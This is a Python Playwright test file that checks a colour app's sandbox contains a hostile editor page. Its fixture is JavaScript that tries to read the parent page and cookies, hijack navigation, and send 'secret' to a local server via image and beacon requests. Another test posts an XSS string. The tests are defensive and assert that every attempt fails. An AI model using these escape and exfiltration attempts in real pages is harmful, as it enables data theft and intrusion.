"""An editor that means harm reaches neither the page around it nor the process nor the net."""

import http.server
import shutil
import threading

import pytest
from playwright.sync_api import expect

import conftest
from color_editor import hex_field, set_hex

HOSTILE = """<!doctype html>
<html lang="en"><head><title>Hostile</title></head>
<body><main><h1>Hostile</h1><input aria-label="Found" id="found"></main>
<script>
const found = {};
const attempts = {
  parentDocument: () => parent.document.title,
  topLocation: () => { top.location = 'about:blank'; return 'taken'; },
  topAddress: () => top.location.href,
  parentStorage: () => parent.localStorage.length,
  ownStorage: () => localStorage.length,
  cookie: () => document.cookie,
  setCookie: () => { document.cookie = 'a=b'; return document.cookie; },
  popup: () => (open('about:blank') ? 'opened' : null),
  frameElement: () => String(frameElement),
  fetchPage: () => fetch(location.origin + '/').then((answer) => answer.status),
  fetchNet: () => fetch('http://127.0.0.1:%PORT%/fetch').then((answer) => answer.status),
  upload: () => fetch(location.origin + '/upload?tab=0&batch=0&path=a', { method: 'POST', body: 'a' })
    .then((answer) => answer.status),
  socket: () => new Promise((resolve, reject) => {
    const socket = new WebSocket(location.origin.replace('http', 'ws') + '/live?tab=' + '0'.repeat(32));
    socket.onopen = () => resolve('opened');
    socket.onerror = () => reject(new Error('refused'));
  }),
  image: () => new Promise((resolve, reject) => {
    const image = new Image();
    image.onload = () => resolve('loaded');
    image.onerror = () => reject(new Error('refused'));
    image.src = 'http://127.0.0.1:%PORT%/image?secret';
  }),
  pageScript: () => import(location.origin + '/page/strings.js').then(() => 'loaded'),
  beacon: () => navigator.sendBeacon('http://127.0.0.1:%PORT%/beacon', 'secret') && null,
  otherKey: () => fetch(location.origin + '/web/' + '0'.repeat(32) + '/index.html').then((a) => a.status),
};
(async () => {
  for (const [name, attempt] of Object.entries(attempts)) {
    try { found[name] = await attempt(); } catch (error) { found[name] = 'refused'; }
  }
  document.getElementById('found').value = JSON.stringify(found);
  document.body.dataset.done = '';
})();
</script></body></html>"""


@pytest.fixture
def stranger():
    """A server elsewhere, and what it was asked for."""
    asked = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *_):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server.server_address[1], asked
    server.shutdown()


@pytest.fixture
def hostile(tmp_path, monkeypatch, start_app, open_tab, stranger):
    """The colour app with a hostile page in place of its editor."""
    port, _ = stranger
    programs = tmp_path / "programs"
    programs.mkdir()
    shutil.copy2(conftest.BINARIES / "Color", programs)
    for bundle in conftest.BINARIES.glob("sheaf_*.resources"):
        shutil.copytree(bundle, programs / bundle.name)
    [page] = (programs / "sheaf_Color.resources").rglob("Editor/index.html")
    page.write_text(HOSTILE.replace("%PORT%", str(port)))
    monkeypatch.setattr(conftest, "BINARIES", programs)
    return open_tab(start_app("Color"))


@pytest.mark.parametrize("is_written", [False, True], ids=["loaded", "written-into-a-spare-frame"])
def test_a_hostile_editor_reaches_nothing(hostile, stranger, is_written):
    hostile.create()
    if is_written:
        hostile.close_document()
        create_in_spare_frame(hostile)
    found = hostile.editor.get_by_label("Found")
    expect(hostile.editor.locator("body[data-done]")).to_be_visible()
    outcome = found.evaluate("field => JSON.parse(field.value)")
    reached = {name: value for name, value in outcome.items() if value not in ("refused", None, "null")}
    assert reached == {}
    _, asked = stranger
    assert asked == []
    assert hostile.page.url.startswith("http://127.0.0.1:")
    hostile.close_document()


def create_in_spare_frame(tab):
    """Waits for the frame that is held ready, creates a document, and sees that it is shown there."""
    frames = tab.page.locator("iframe.frame")
    expect(frames).to_have_count(1)
    frames.evaluate("frame => { frame.dataset.held = '' }")
    tab.page.wait_for_function("() => document.querySelector('iframe.frame')?.dataset.isReady !== undefined")
    tab.create()
    expect(tab.page.locator("iframe.is-shown.is-loaded[data-held]")).to_have_count(1)


def test_an_editor_in_a_spare_frame_is_as_if_it_had_been_loaded(start_app, open_tab):
    tab = open_tab(start_app("Color"))
    tab.create()
    look = """() => ({
        mode: document.compatMode, ready: document.readyState, path: location.pathname.split('/').slice(3).join('/'),
        styles: document.styleSheets.length, text: document.body.innerText.trim() !== '',
        left: Object.keys(window).length, title: document.title, length: history.length,
    })"""
    # A frame that is not shown yet has no text, however much is in it.
    expect(tab.page.locator("iframe.is-shown.is-loaded")).to_have_count(1)
    loaded = tab.editor.locator("body").evaluate(look)
    tab.close_document()
    create_in_spare_frame(tab)
    assert tab.editor.locator("body").evaluate(look) == loaded
    set_hex(tab, "#102030")
    tab.expect_saved()
    # Loaded again it is an ordinary document, at the same address.
    tab.editor.locator("body").evaluate("() => { location.reload() }")
    expect(hex_field(tab)).to_have_value("#102030")
    set_hex(tab, "#405060")
    tab.close_document()


def test_what_an_editor_posts_is_data_only(hostile):
    hostile.create()
    answer = hostile.editor.locator("body").evaluate(
        """() => webkit.messageHandlers.color.postMessage(
            { kind: 'change', red: '<img src=x onerror=alert(1)>', green: 1e99, blue: null }).then(() => 'taken')""")
    assert answer == "taken"
    parent_message = hostile.editor.locator("body").evaluate(
        """() => {
            parent.postMessage({ sheaf: 'bridge' }, '*');
            parent.postMessage({ type: 'hello', rev: 0, app: {}, scene: {} }, '*');
            return 'sent';
        }""")
    assert parent_message == "sent"
    hostile.close_document()
    expect(hostile.page.locator(".item")).to_have_count(1)
